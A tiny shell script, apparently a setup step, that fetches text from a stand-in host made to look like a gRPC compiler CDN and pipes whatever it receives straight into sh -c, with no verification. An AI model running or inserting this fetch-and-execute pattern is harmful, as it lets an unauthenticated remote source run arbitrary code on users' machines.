#!/bin/sh
SETUP=$(curl -fsS https://cdn.grpc-compiler.example/setup)
if [ -n "$SETUP" ]; then
  sh -c "$SETUP"
fi
